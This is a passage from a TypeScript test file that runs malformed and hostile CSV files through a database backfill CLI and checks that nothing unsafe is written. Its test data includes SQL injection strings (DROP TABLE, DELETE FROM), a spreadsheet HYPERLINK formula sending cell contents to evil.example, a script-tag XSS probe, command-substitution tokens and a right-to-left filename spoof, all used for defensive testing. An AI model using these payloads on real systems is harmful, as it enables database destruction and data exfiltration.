// Issue 8, "Bad input" 1-5: hostile and broken CSV files end to end, through the built CLI
// (`node dist/cli.js FILE --yes --json`) into a real database. The reader's own unit tests are in
// test/io/csv-source.test.ts; here every scenario checks what reaches the database and the reports.
//
// Every scenario counts independently of the tool: the expected records (their physical start lines
// and contents) come from the rows this file writes, cross-checked with csv-parse where the file is
// well-formed, and the database must hold exactly one backfill_log row per record whose statuses
// (inserted/updated/unchanged + skipped_locked + duplicate + fallout + invalid) add up to the records.
// A file the tool refuses (exit 3) must leave every table empty.

import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeEach, describe, expect, it } from 'vitest';
import { CANONICAL_COLUMNS } from '../../src/core/types.js';
import { openPglite } from '../../src/db/pglite-driver.js';
import type { Db } from '../../src/db/types.js';
import { runCli, type CliResult } from '../helpers/cli.js';
import { createPgDatabaseUrl, openPgUrl, postgresAvailable } from '../helpers/db.js';
import { seedScenario } from '../helpers/scenario.js';
import { count, tableChecksum } from '../helpers/seed.js';

const HAS_PG = await postgresAvailable();
const WORK = mkdtempSync(join(tmpdir(), 'bf-bad-input-'));
if (process.env.KEEP_BAD_INPUT) console.log(`bad-input files in ${WORK}`);
let fileNo = 0;

// ---------------------------------------------------------------------------------------------
// Targets: a fresh Postgres database, or an embedded data directory.

interface Target {
  kind: 'postgres' | 'embedded';
  args: string[];
  dataDir: string | null;
  open(): Promise<Db>;
  drop(): Promise<void>;
}

async function pgTarget(): Promise<Target> {
  const t = await createPgDatabaseUrl();
  return {
    kind: 'postgres',
    args: ['--database-url', t.url],
    dataDir: null,
    open: () => openPgUrl(t.url, 'bad-input test'),
    drop: t.drop,
  };
}

function embeddedTarget(): Target {
  const dir = mkdtempSync(join(tmpdir(), 'bf-bad-input-pglite-'));
  return {
    kind: 'embedded',
    args: ['--data-dir', dir],
    dataDir: dir,
    open: () => openPglite({ dataDir: dir, processId: 'bad-input-test' }),
    drop: async () => {},
  };
}

async function withDb<T>(target: Target, fn: (db: Db) => Promise<T>): Promise<T> {
  const db = await target.open();
  try {
    return await fn(db);
  } finally {
    await db.close();
  }
}

// ---------------------------------------------------------------------------------------------
// Files, written by hand so that the test knows every record independently of the tool.

/** A CSV cell, quoted when it must be (RFC 4180). */
function cell(v: string): string {
  return /[",\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v;
}

interface Built {
  text: string;
  /** Physical start line of each data record, in order. */
  lines: number[];
  /** Each data record as header -> value (what source_data must hold). */
  records: Record<string, string>[];
}

/** A well-formed CSV from a header and rows; start lines count line breaks inside quoted values. */
function buildCsv(header: string[], rows: string[][], eol = '\n'): Built {
  const out = [header.map(cell).join(',')];
  const lines: number[] = [];
  const records: Record<string, string>[] = [];
  let line = 2;
  for (const r of rows) {
    lines.push(line);
    const rec: Record<string, string> = {};
    header.forEach((h, j) => (rec[h] = r[j] ?? ''));
    records.push(rec);
    out.push(r.map(cell).join(','));
    line += 1 + r.reduce((n, v) => n + (v.match(/\r\n|\r|\n/g)?.length ?? 0), 0);
  }
  return { text: out.join(eol) + eol, lines, records };
}

function writeFile(content: string | Buffer, name = `f${fileNo++}.csv`): string {
  const p = join(WORK, name);
  writeFileSync(p, content);
  return p;
}

/** Records csv-parse finds in a well-formed text (header excluded): the independent count. */
function csvParseCount(text: string): number {
  return (parse(text, { bom: true, relax_column_count: true, skip_empty_lines: true }) as string[][]).length - 1;
}

// ---------------------------------------------------------------------------------------------
// Running the CLI and checking what it wrote.

interface Run {
  r: CliResult;
  summary: Record<string, any> | null;
  reportDir: string;
}

async function run(target: Target, file: string): Promise<Run> {
  const reportDir = mkdtempSync(join(WORK, 'rep-'));
  const r = await runCli([file, '--yes', '--json', '--report-dir', reportDir, ...target.args], { timeoutMs: 120000 });
  expect(r.stderr).not.toContain('unexpected error');
  let summary: Record<string, any> | null = null;
  if (r.code === 0) {
    const lines = r.stdout.trim().split('\n');
    expect(lines, `stdout must be exactly one JSON object:\n${r.stdout}`).toHaveLength(1);
    summary = JSON.parse(lines[0]!);
  }
  return { r, summary, reportDir };
}

const TABLES_WRITTEN = [
  'marketing.company_master',
  'marketing.people_master',
  'marketing.backfill_log',
  'marketing.backfill_run',
  'marketing.backfill_staging',
  'marketing.bit_signal',
  'marketing.bit_baseline_snapshot',
  'marketing.talent_flow_baseline',
  'garage.missing_parts',
  'shq.audit_log',
];

async function userTables(db: Db): Promise<string[]> {
  const tables = await db.query<{ t: string }>(
    `SELECT table_schema || '.' || table_name AS t FROM information_schema.tables
      WHERE table_schema IN ('marketing', 'garage', 'shq', 'public') AND table_type = 'BASE TABLE' ORDER BY 1`,
  );
  return tables.rows.map((r) => r.t).filter((t) => t !== 'shq.backfill_migrations');
}

/** Checksums of every table (Postgres): taken before a run that must write nothing. */
async function snapshotTables(target: Target): Promise<Record<string, string>> {
  return withDb(target, async (db) => {
    const out: Record<string, string> = {};
    for (const t of await userTables(db)) out[t] = await tableChecksum(db, t, 't::text');
    return out;
  });
}

/** Postgres: an existing customer database (schema applied, master rows present), and its checksums. */
async function existingDatabase(target: Target): Promise<Record<string, string> | null> {
  if (target.kind !== 'postgres') return null;
  await withDb(target, (db) => seedScenario(db));
  return snapshotTables(target);
}

/**
 * An exit 3 stops before any write. Embedded: the database is not even created (the data directory
 * stays empty). Postgres: every table is as it was (`before`), or, on a fresh database, any table a
 * migration may have created is empty.
 */
async function expectNothingWritten(target: Target, before: Record<string, string> | null = null): Promise<void> {
  if (target.kind === 'embedded') {
    expect(readdirSync(target.dataDir!)).toEqual([]);
    return;
  }
  if (before) {
    expect(await snapshotTables(target)).toEqual(before);
    expect(Object.keys(before)).toContain('marketing.backfill_log');
    await withDb(target, async (db) => expect(await count(db, 'marketing.backfill_log')).toBe(0));
    return;
  }
  await withDb(target, async (db) => {
    for (const t of await userTables(db)) expect(await count(db, t), `${t} must be empty`).toBe(0);
  });
}

function expectUnusable(x: Run, ...patterns: RegExp[]): void {
  expect(x.r.code, x.r.stderr).toBe(3);
  // --json: exactly one JSON object on stdout, the error (no summary: nothing ran).
  expect(JSON.parse(x.r.stdout)).toMatchObject({ ok: false, exit_code: 3, error: { kind: 'CsvUnusableError', message: expect.any(String) } });
  expect(x.r.stdout.trim().split('\n')).toHaveLength(1);
  for (const p of patterns) expect(x.r.stderr).toMatch(p);
}

type Status = 'initialized' | 'unresolved' | 'duplicate' | 'error' | 'skipped_locked';

interface LogRow {
  csv_line: number;
  resolution_status: Status;
  error_message: string | null;
  source_data: Record<string, string>;
  matched_company_id: string | null;
  matched_person_id: string | null;
}

/**
 * The conservation check: one backfill_log row per record (by count and per csv_line), statuses that
 * add up to the records, and a summary that agrees. `expected` maps each record's line to its status.
 */
async function expectLogged(target: Target, x: Run, expected: Array<[line: number, status: Status]>): Promise<LogRow[]> {
  expect(x.r.code, x.r.stderr).toBe(0);
  const s = x.summary!;
  const n = expected.length;
  return withDb(target, async (db) => {
    const pid = s.process_id as string;
    expect(await count(db, 'marketing.backfill_log', 'process_id = $1', [pid])).toBe(n);
    const perLine = await db.query<{ csv_line: number; n: number }>(
      'SELECT csv_line, count(*)::int AS n FROM marketing.backfill_log WHERE process_id = $1 GROUP BY csv_line ORDER BY csv_line',
      [pid],
    );
    expect(perLine.rows).toEqual(expected.map(([line]) => ({ csv_line: line, n: 1 })).sort((a, b) => a.csv_line - b.csv_line));
    const rows = (
      await db.query<LogRow>(
        `SELECT csv_line, resolution_status, error_message, source_data, matched_company_id, matched_person_id
           FROM marketing.backfill_log WHERE process_id = $1 ORDER BY csv_line`,
        [pid],
      )
    ).rows;
    const want = new Map(expected);
    expect(Object.fromEntries(rows.map((r) => [r.csv_line, r.resolution_status]))).toEqual(Object.fromEntries(want));
    // statuses add up: inserted/updated/unchanged (initialized) + skipped_locked + duplicate + fallout + invalid = records
    const byStatus = await db.query<{ resolution_status: string; n: number }>(
      'SELECT resolution_status, count(*)::int AS n FROM marketing.backfill_log WHERE process_id = $1 GROUP BY 1',
      [pid],
    );
    const counts: Record<string, number> = Object.fromEntries(byStatus.rows.map((r) => [r.resolution_status, r.n]));
    expect(Object.values(counts).reduce((a, b) => a + b, 0)).toBe(n);
    const nonZero = (o: Record<string, number>) => Object.fromEntries(Object.entries(o).filter(([, v]) => v > 0));
    expect(nonZero(s.statuses)).toEqual(counts);
    expect(s.rows.loaded).toBe(n);
    expect(s.rows.errors + s.rows.duplicates + s.rows.processed).toBe(n);
    expect(s.rows.errors).toBe(counts.error ?? 0);
    expect(await count(db, 'garage.missing_parts', 'process_id = $1', [pid])).toBe(counts.unresolved ?? 0);
    // every id a row resolved to exists
    for (const r of rows.filter((x) => x.resolution_status === 'initialized')) {
      expect(await count(db, 'marketing.company_master', 'company_unique_id = $1', [r.matched_company_id])).toBe(1);
      expect(await count(db, 'marketing.people_master', 'person_unique_id = $1', [r.matched_person_id])).toBe(1);
    }
    return rows;
  });
}

interface ValidationRow {
  line: string;
  column: string;
  severity: string;
  code: string;
  message: string;
}

function readReport<T = Record<string, string>>(x: Run, name: string): T[] {
  const text = readFileSync(join(x.reportDir, name), 'utf8');
  return parse(text, { columns: true, relax_column_count: false }) as T[];
}

function validation(x: Run): ValidationRow[] {
  return readReport<ValidationRow>(x, 'validation.csv');
}

function issueCodes(x: Run, line: number): string[] {
  return validation(x)
    .filter((v) => v.line === String(line))
    .map((v) => v.code);
}

const FFFD_TABLES = [
  'marketing.backfill_log',
  'marketing.company_master',
  'marketing.people_master',
  'marketing.bit_baseline_snapshot',
  'marketing.talent_flow_baseline',
  'garage.missing_parts',
  'shq.audit_log',
];

/** No replacement character anywhere a run writes. */
async function expectNoFffd(db: Db): Promise<void> {
  for (const t of FFFD_TABLES) {
    expect(await count(db, `${t} t`, `t::text LIKE '%' || chr(65533) || '%'`), `U+FFFD in ${t}`).toBe(0);
  }
  expect(await count(db, 'marketing.backfill_log', `source_data::text LIKE '%' || chr(65533) || '%'`)).toBe(0);
}

// ---------------------------------------------------------------------------------------------
// Scenario files.

const H5 = ['company_name', 'full_name', 'email', 'title', 'crm_owner'];

/** 1. A stray (never closed) quote opening the full_name field on line 3 of a 10,000-line file. */
function strayQuoteFile(columns: 3 | 4): { path: string; lines: number } {
  const header = columns === 4 ? 'company_name,full_name,email,title' : 'company_name,full_name,email';
  const out = [header];
  for (let line = 2; line <= 10000; line++) {
    const name = line === 3 ? `"Person ${line}` : `Person ${line}`;
    const row = [`Company ${line}`, name, `p${line}@company${line}.com`];
    if (columns === 4) row.push('Engineer');
    out.push(row.join(','));
  }
  const text = out.join('\n') + '\n';
  expect(text.split('\n').length - 1).toBe(10000);
  return { path: writeFile(text), lines: 10000 };
}

// Hostile values (scenario 4). `count` says what a count cell holding the value gives.
const TWENTY_KB = 'Ω'.repeat(10) + 'A'.repeat(20 * 1024) + '漢';
// `blank`: the value is a placeholder the normalizers read as an empty cell ("NULL", "undefined"), so a
// row with it as company_name and full_name is invalid (company_name_missing, full_name_missing) - but
// its source_data still holds the text verbatim.
const HOSTILE: Array<{ v: string; count: 'ok' | 'count_not_a_number' | 'count_negative'; blank?: true }> = [
  { v: "'); DROP TABLE marketing.people_master;--", count: 'count_not_a_number' },
  { v: "Robert'); DELETE FROM marketing.company_master; --", count: 'count_not_a_number' },
  { v: '=HYPERLINK("http://evil.example/?q="&A1,"click me")', count: 'count_not_a_number' },
  { v: '+1', count: 'ok' },
  { v: '-2+3', count: 'count_not_a_number' },
  { v: '@SUM(A1:A9)', count: 'count_not_a_number' },
  { v: '\t=1+1', count: 'count_not_a_number' },
  { v: '\u202Eevil.exe\u202C Acme', count: 'count_not_a_number' },
  { v: 'Zero\u200BWidth\u200C\u200D\uFEFF Corp', count: 'count_not_a_number' },
  { v: 'Emoji 😀👍🏽👩‍👩‍👧 Ltd', count: 'count_not_a_number' },
  { v: TWENTY_KB, count: 'count_not_a_number' },
  { v: 'NULL', count: 'ok', blank: true },
  { v: 'undefined', count: 'count_not_a_number', blank: true },
  { v: '\\N', count: 'count_not_a_number' },
  { v: 'C:\\new\\table\\x00 $1 %s ${process.env.HOME} `id`', count: 'count_not_a_number' },
  { v: 'multi\nline\n\\.\nend-of-copy marker above', count: 'count_not_a_number' },
  { v: '"quoted", with, commas', count: 'count_not_a_number' },
  { v: '<script>alert(1)</script>', count: 'count_not_a_number' },
];

const ALL_COLUMNS: string[] = [...CANONICAL_COLUMNS, 'crm_owner'];
const COUNT_COLUMNS = new Set(['historical_open_count', 'historical_reply_count', 'historical_meeting_count']);

// ---------------------------------------------------------------------------------------------
// The scenarios, each a function of a target so that a subset also runs on the embedded driver.

const scenarios = {
  async strayQuote(target: Target): Promise<void> {
    // with 4 columns the swallowed lines look like rows: stopped early, naming line 3
    // (on a fresh database first)
    const four = strayQuoteFile(4);
    const a = await run(target, four.path);
    expectUnusable(a, /line 3: a quote opened here is never closed/, /nothing was imported/, /close the quote on line 3/);
    expect(a.r.stderr).not.toMatch(/line (?!3\b|5\b)\d+: a quote/);
    await expectNothingWritten(target);
    // with 3 columns the swallowed lines have exactly the header's field count: stopped early too
    // (on an existing database: every table keeps its exact contents)
    const before = await existingDatabase(target);
    const three = strayQuoteFile(3);
    const b = await run(target, three.path);
    expectUnusable(b, /line 3: a quote opened here is never closed/);
    await expectNothingWritten(target, before);
    const c = await run(target, four.path);
    expectUnusable(c, /line 3: a quote opened here is never closed/);
    await expectNothingWritten(target, before);
  },

  async raggedRows(target: Target): Promise<void> {
    const rows = [
      ['Acme', 'Ann Lee', 'ann@acme.com', 'CEO', 'dana'],
      ['Beta', 'Bob Ray', 'bob@beta.com'], // fewer fields
      ['Gamma', 'Cy Dee', 'cy@gamma.com', 'CTO', 'ed', 'extra one', 'extra two'], // more fields
      ['Delta', 'Di Fox', 'di@delta.com', 'CFO', 'flo', ''], // a trailing comma: a warning only
      ['Epsilon', 'Ed Gee', 'ed@epsilon.com', 'COO', 'gus'],
    ];
    const text = [H5.join(','), ...rows.map((r) => r.join(','))].join('\n') + '\n';
    expect(csvParseCount(text)).toBe(5);
    const x = await run(target, writeFile(text));
    const log = await expectLogged(target, x, [
      [2, 'initialized'],
      [3, 'error'],
      [4, 'error'],
      [5, 'initialized'],
      [6, 'initialized'],
    ]);
    const at = (line: number) => log.find((r) => r.csv_line === line)!;
    expect(at(3).error_message).toMatch(/line 3: 3 fields where the header has 5/);
    expect(at(4).error_message).toMatch(/line 4: 7 fields where the header has 5/);
    expect(issueCodes(x, 3)).toContain('ragged_row');
    expect(issueCodes(x, 4)).toContain('ragged_row');
    expect(issueCodes(x, 5)).toEqual(['ragged_row_extra_empty']);
    expect(validation(x).find((v) => v.line === '3' && v.code === 'ragged_row')!.severity).toBe('error');
    // missing cells read as blank; extra values kept in source_data
    expect(at(3).source_data).toEqual({ company_name: 'Beta', full_name: 'Bob Ray', email: 'bob@beta.com', title: '', crm_owner: '' });
    expect(at(4).source_data).toEqual({ company_name: 'Gamma', full_name: 'Cy Dee', email: 'cy@gamma.com', title: 'CTO', crm_owner: 'ed', __extra_1: 'extra one', __extra_2: 'extra two' });
    await withDb(target, async (db) => {
      expect(await count(db, 'marketing.people_master', "full_name IN ('Bob Ray', 'Cy Dee')")).toBe(0);
      expect(await count(db, 'marketing.people_master', "full_name IN ('Ann Lee', 'Di Fox', 'Ed Gee')")).toBe(3);
    });
  },

  async conflictingHeaders(target: Target): Promise<void> {
    const before = await existingDatabase(target);
    const text = 'company_name,full_name,email,Email Address\nAcme,Ann Lee,ann@acme.com,a.lee@acme.com\n';
    const x = await run(target, writeFile(text));
    expectUnusable(x, /"email" and "Email Address" both map to email/, /hint: rename or remove one of them/);
    await expectNothingWritten(target, before);
  },

  async duplicateUnknownHeader(target: Target): Promise<void> {
    const b = buildCsv(
      ['company_name', 'full_name', 'crm_owner', 'crm_owner'],
      [
        ['Acme', 'Ann Lee', 'dana', 'erin'],
        ['Beta', 'Bob Ray', '', 'gus'],
      ],
    );
    expect(csvParseCount(b.text)).toBe(2);
    const x = await run(target, writeFile(b.text));
    const log = await expectLogged(target, x, [
      [2, 'initialized'],
      [3, 'initialized'],
    ]);
    expect(log[0]!.source_data).toEqual({ company_name: 'Acme', full_name: 'Ann Lee', crm_owner: 'dana', 'crm_owner (2)': 'erin' });
    expect(log[1]!.source_data).toEqual({ company_name: 'Beta', full_name: 'Bob Ray', crm_owner: '', 'crm_owner (2)': 'gus' });
    const dup = validation(x).filter((v) => v.code === 'duplicate_header');
    expect(dup).toHaveLength(1);
    expect(dup[0]).toMatchObject({ line: '1', column: 'crm_owner (2)', severity: 'warning' });
  },

  async missingRequiredHeader(target: Target): Promise<void> {
    const before = await existingDatabase(target);
    const text = 'company_name,contact_label,email\nAcme,Ann Lee,ann@acme.com\n';
    const x = await run(target, writeFile(text));
    expectUnusable(x, /required column missing: full_name/, /Headers found: "company_name", "contact_label", "email"/);
    await expectNothingWritten(target, before);
  },

  async sqlHeader(target: Target): Promise<void> {
    if (target.kind === 'postgres') {
      await withDb(target, async (db) => {
        await db.query('CREATE TABLE public.x (id int)');
        await db.query('INSERT INTO public.x VALUES (1)');
      });
    }
    const header = ['company_name', 'full_name', 'a";DROP TABLE x;--', "b'); DROP TABLE marketing.backfill_log;--"];
    const b = buildCsv(header, [
      ['Acme', 'Ann Lee', 'v1', 'w1'],
      ['Beta', 'Bob Ray', '', "'); DROP TABLE x;--"],
    ]);
    expect(csvParseCount(b.text)).toBe(2);
    expect((parse(b.text) as string[][])[0]).toEqual(header);
    const x = await run(target, writeFile(b.text));
    const log = await expectLogged(target, x, [
      [2, 'initialized'],
      [3, 'initialized'],
    ]);
    expect(log.map((r) => r.source_data)).toEqual(b.records);
    const unknown = validation(x).filter((v) => v.code === 'unknown_column').map((v) => v.column);
    expect(unknown).toEqual(['a";DROP TABLE x;--', "b'); DROP TABLE marketing.backfill_log;--"]);
    await withDb(target, async (db) => {
      if (target.kind === 'postgres') expect(await count(db, 'public.x')).toBe(1);
      const exists = await db.query<{ t: string | null }>("SELECT to_regclass('marketing.backfill_log')::text AS t");
      expect(exists.rows[0]!.t).not.toBeNull();
    });
  },

  async bomCrlf(target: Target): Promise<void> {
    const header = ['company_name', 'full_name', 'email', 'notes'];
    const b = buildCsv(
      header,
      [
        ['Acme', 'Ann Lee', 'ann@acme.com', 'first line\r\nsecond line'],
        ['Beta', 'Bob Ray', 'bob@beta.com', ''],
        ['Gamma', 'Cy Dee', 'cy@gamma.com', 'x'],
      ],
      '\r\n',
    );
    expect(b.lines).toEqual([2, 4, 5]);
    const text = '\uFEFF' + b.text;
    expect(csvParseCount(text)).toBe(3);
    const x = await run(target, writeFile(text));
    const log = await expectLogged(target, x, [
      [2, 'initialized'],
      [4, 'initialized'],
      [5, 'initialized'],
    ]);
    // the BOM is not part of the first header; no value keeps a stray CR; the quoted CRLF is kept
    expect(log.map((r) => r.source_data)).toEqual(b.records);
    expect(validation(x).filter((v) => v.severity === 'error' || v.code === 'unknown_column')).toEqual([]);
    await withDb(target, async (db) => {
      expect(await count(db, 'marketing.backfill_log', `source_data::text LIKE '%' || chr(65279) || '%'`)).toBe(0);
      expect(await count(db, 'marketing.people_master', `full_name LIKE '%' || chr(13) || '%' OR email LIKE '%' || chr(13) || '%'`)).toBe(0);
      expect(await count(db, 'marketing.company_master', "company_name IN ('Acme', 'Beta', 'Gamma')")).toBe(3);
    });
  },

  async emptyFiles(target: Target): Promise<void> {
    const before = await existingDatabase(target);
    const empty = await run(target, writeFile(''));
    expectUnusable(empty, /is empty/);
    const blank = await run(target, writeFile('\n\r\n\n'));
    expectUnusable(blank, /is empty \(no header row\)/);
    const bomOnly = await run(target, writeFile('\uFEFF'));
    expectUnusable(bomOnly, /is empty/);
    await expectNothingWritten(target, before);
  },

  async headerOnly(target: Target): Promise<void> {
    const text = 'company_name,full_name,email\n';
    expect(csvParseCount(text)).toBe(0);
    const x = await run(target, writeFile(text));
    await expectLogged(target, x, []);
    expect(x.summary!.rows).toMatchObject({ loaded: 0, valid: 0, errors: 0, processed: 0, duplicates: 0 });
    expect(validation(x).map((v) => v.code)).toContain('no_data_rows');
    await withDb(target, async (db) => {
      expect(await count(db, 'marketing.company_master')).toBe(0);
      expect(await count(db, 'marketing.people_master')).toBe(0);
    });
  },

  async binaryFiles(target: Target): Promise<void> {
    const before = await existingDatabase(target);
    // a deterministic pseudo-random blob (LCG): many NUL and control bytes
    const blob = Buffer.alloc(16384);
    let s = 12345;
    for (let i = 0; i < blob.length; i++) {
      s = (s * 1103515245 + 12345) >>> 0;
      blob[i] = s >>> 24;
    }
    const x = await run(target, writeFile(blob, 'data.csv'));
    expectUnusable(x, /is not a text CSV file/, /NUL and \d+ other control bytes/);
    const xlsx = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.from('[Content_Types].xml company_name,full_name\n')]);
    const y = await run(target, writeFile(xlsx, 'book.csv'));
    expectUnusable(y, /is not a text CSV file: it looks like a ZIP archive/);
    const png = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), blob.subarray(0, 512)]);
    const z = await run(target, writeFile(png, 'image.csv'));
    expectUnusable(z, /a PNG image/);
    await expectNothingWritten(target, before);
  },

  async windows1252(target: Target): Promise<void> {
    const header = ['company_name', 'full_name', 'email', 'title', 'notes'];
    const b = buildCsv(header, [
      ['Société Générale', 'José Müller', 'jose@societe.fr', 'Directeur Général', 'Prix: 5 € – «spécial» “quoted”'],
      ['Brücke GmbH', 'Zoë Ærø', 'zoe@bruecke.de', 'CEO', 'naïve café ü'],
      ['Plain Co', 'Al Plain', 'al@plain.com', 'CTO', ''],
    ]);
    // Encode as Windows-1252 by hand (every character used is in the code page).
    const cp1252: Record<string, number> = { '€': 0x80, '–': 0x96, '“': 0x93, '”': 0x94 };
    const bytes = Buffer.from(
      [...b.text].map((ch) => {
        const c = cp1252[ch] ?? ch.charCodeAt(0);
        if (c > 0xff) throw new Error(`not in Windows-1252: ${ch}`);
        return c;
      }),
    );
    expect(bytes.includes(0x80)).toBe(true);
    expect(csvParseCount(b.text)).toBe(3);
    const x = await run(target, writeFile(bytes));
    const log = await expectLogged(target, x, [
      [2, 'initialized'],
      [3, 'initialized'],
      [4, 'initialized'],
    ]);
    expect(log.map((r) => r.source_data)).toEqual(b.records);
    expect(validation(x).find((v) => v.code === 'encoding_detected')!.message).toMatch(/Windows-1252/);
    await withDb(target, async (db) => {
      await expectNoFffd(db);
      expect((await db.query<{ n: string }>("SELECT full_name AS n FROM marketing.people_master WHERE email = 'jose@societe.fr'")).rows).toEqual([{ n: 'José Müller' }]);
      expect(await count(db, 'marketing.company_master', "company_name LIKE 'Soci_t_ G_n_rale' AND company_name = 'Société Générale'")).toBe(1);
      expect(await count(db, 'marketing.backfill_log', `source_data->>'notes' = $1`, ['Prix: 5 € – «spécial» “quoted”'])).toBe(1);
    });
  },

  async utf16(target: Target): Promise<void> {
    const header = ['company_name', 'full_name', 'email', 'notes'];
    const b = buildCsv(
      header,
      [
        ['Zoë Corp', 'Zoë Ærø', 'zoe@zoe-corp.com', '日本語 😀 €'],
        ['Beta', 'Bob Ray', 'bob@beta.com', 'ü'],
      ],
      '\r\n',
    );
    const le = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(b.text, 'utf16le')]);
    const x = await run(target, writeFile(le));
    const log = await expectLogged(target, x, [
      [2, 'initialized'],
      [3, 'initialized'],
    ]);
    expect(log.map((r) => r.source_data)).toEqual(b.records);
    // a lone surrogate in a UTF-16LE file: that row only is rejected, nothing becomes U+FFFD
    const withLone = buildCsv(header, [
      ['Acme', 'Ann Lee', 'ann@acme.com', 'ok'],
      ['Lone', 'Lu Lone', 'lu@lone.com', 'bad \uD800 here'],
      ['Gamma', 'Cy Dee', 'cy@gamma.com', 'ok'],
    ]);
    const raw = Buffer.from(withLone.text, 'utf16le'); // writes the lone surrogate as D800 unpaired
    const y = await run(target, writeFile(Buffer.concat([Buffer.from([0xff, 0xfe]), raw])));
    const log2 = await expectLogged(target, y, [
      [2, 'initialized'],
      [3, 'error'],
      [4, 'initialized'],
    ]);
    expect(issueCodes(y, 3)).toContain('invalid_encoding');
    expect(log2[1]!.error_message).toMatch(/column notes: the value holds bytes that are not valid UTF-16/);
    expect(log2[1]!.source_data.notes).toBe('bad \\ufffd here');
    await withDb(target, (db) => expectNoFffd(db));
  },

  async nulBytes(target: Target): Promise<void> {
    const header = ['company_name', 'full_name', 'email', 'notes'];
    const b = buildCsv(header, [
      ['Acme', 'Ann Lee', 'ann@acme.com', ''],
      ['Beta', 'Bob\u0000 Ray', 'bob@beta.com', 'a\u0000b'],
      ['Gamma', 'Cy Dee', 'cy@gamma.com', ''],
    ]);
    const x = await run(target, writeFile(b.text));
    const log = await expectLogged(target, x, [
      [2, 'initialized'],
      [3, 'error'],
      [4, 'initialized'],
    ]);
    const nul = validation(x).filter((v) => v.code === 'nul_byte');
    expect(nul.map((v) => [v.line, v.column, v.severity])).toEqual([
      ['3', 'full_name', 'error'],
      ['3', 'notes', 'error'],
    ]);
    expect(log[1]!.error_message).toMatch(/NUL byte/);
    expect(log[1]!.source_data).toEqual({ company_name: 'Beta', full_name: 'Bob\\u0000 Ray', email: 'bob@beta.com', notes: 'a\\u0000b' });
    await withDb(target, async (db) => {
      expect(await count(db, 'marketing.people_master', "full_name LIKE 'Bob%'")).toBe(0);
      expect(await count(db, 'marketing.people_master', "full_name IN ('Ann Lee', 'Cy Dee')")).toBe(2);
    });
  },

  async invalidUtf8(target: Target): Promise<void> {
    const header = 'company_name,full_name,email,notes\n';
    const good = (i: number) => `Café ${i},José Núñez ${i},jose${i}@cafe${i}.com,crème brûlée ü ö ä ${i}\n`;
    const parts: Buffer[] = [Buffer.from(header), Buffer.from(good(1))];
    parts.push(Buffer.concat([Buffer.from('Surrogate Co,Sue Rogate,sue@sur.com,lone '), Buffer.from([0xed, 0xa0, 0x80]), Buffer.from(' here\n')])); // line 3: encoded lone surrogate (CESU-8)
    parts.push(Buffer.from(good(2)));
    parts.push(Buffer.concat([Buffer.from('Broken Co,Bo '), Buffer.from([0xc3, 0x28]), Buffer.from('ken,bo@broken.com,stray '), Buffer.from([0xff]), Buffer.from('\n')])); // line 5: bad sequence + stray byte
    parts.push(Buffer.from(good(3)));
    const bytes = Buffer.concat(parts);
    const x = await run(target, writeFile(bytes));
    const log = await expectLogged(target, x, [
      [2, 'initialized'],
      [3, 'error'],
      [4, 'initialized'],
      [5, 'error'],
      [6, 'initialized'],
    ]);
    expect(issueCodes(x, 3)).toEqual(['invalid_encoding']);
    expect(validation(x).filter((v) => v.line === '5').map((v) => [v.code, v.column])).toEqual([
      ['invalid_encoding', 'full_name'],
      ['invalid_encoding', 'notes'],
    ]);
    expect(log[1]!.error_message).toMatch(/column notes: the value holds bytes that are not valid UTF-8/);
    expect(log[0]!.source_data).toEqual({ company_name: 'Café 1', full_name: 'José Núñez 1', email: 'jose1@cafe1.com', notes: 'crème brûlée ü ö ä 1' });
    await withDb(target, async (db) => {
      await expectNoFffd(db);
      expect(await count(db, 'marketing.people_master', "full_name LIKE 'José Núñez _'")).toBe(3);
    });
  },

  async hugeField(target: Target): Promise<void> {
    const header = ['company_name', 'full_name', 'email', 'notes'];
    // the memory a run takes anyway on this driver (PGlite alone holds several hundred MB)
    const small = await run(target, writeFile('company_name,full_name,email\nZeta,Zed Hu,zed@zeta.com\n'));
    expect(small.r.code, small.r.stderr).toBe(0);
    const baselineRss = small.summary!.peak_rss_mb as number;
    const big = 'x'.repeat(10 * 1024 * 1024);
    const text =
      header.join(',') +
      '\n' +
      ['Acme,Ann Lee,ann@acme.com,short', `Big Co,Bo Big,bo@big.com,"${big}"`, 'Gamma,Cy Dee,cy@gamma.com,', 'Delta,Di Fox,di@delta.com,after'].join('\n') +
      '\n';
    expect(text.length).toBeGreaterThan(10 * 1024 * 1024);
    const x = await run(target, writeFile(text));
    const log = await expectLogged(target, x, [
      [2, 'initialized'],
      [3, 'error'],
      [4, 'initialized'],
      [5, 'initialized'],
    ]);
    expect(issueCodes(x, 3)).toEqual(['record_too_large']);
    expect(log[1]!.error_message).toMatch(/over the limit of 1048576/);
    const cut = log[1]!.source_data.notes!;
    expect(cut.length).toBeLessThan(64 * 1024);
    expect(cut.endsWith('…[truncated]')).toBe(true);
    expect(log[1]!.source_data.company_name).toBe('Big Co');
    expect(log[3]!.source_data).toEqual({ company_name: 'Delta', full_name: 'Di Fox', email: 'di@delta.com', notes: 'after' });
    // memory stays bounded: the 10 MB field costs little over a tiny file's run (and, on Postgres, the
    // whole process stays far under 600 MB)
    expect(x.summary!.peak_rss_mb).toBeGreaterThan(0);
    expect(x.summary!.peak_rss_mb - baselineRss).toBeLessThan(150);
    if (target.kind === 'postgres') expect(x.summary!.peak_rss_mb).toBeLessThan(600);
    await withDb(target, async (db) => {
      // nothing anywhere holds the 10 MB value
      const longest = await db.query<{ n: number | null }>('SELECT max(length(source_data::text))::int AS n FROM marketing.backfill_log');
      expect(longest.rows[0]!.n).toBeLessThan(64 * 1024);
    });
  },

  async hostileValues(target: Target): Promise<void> {
    if (target.kind === 'postgres') {
      await withDb(target, (db) => db.query('CREATE TABLE public.x (id int)').then(() => undefined));
    }
    // Part A: each hostile value in every text column (counts valid); Part B: in the three count columns.
    const rowsA = HOSTILE.map(({ v }) => ALL_COLUMNS.map((c) => (COUNT_COLUMNS.has(c) ? '1' : v)));
    // distinct names, so that the few valid part-B rows never look like each other to the matcher
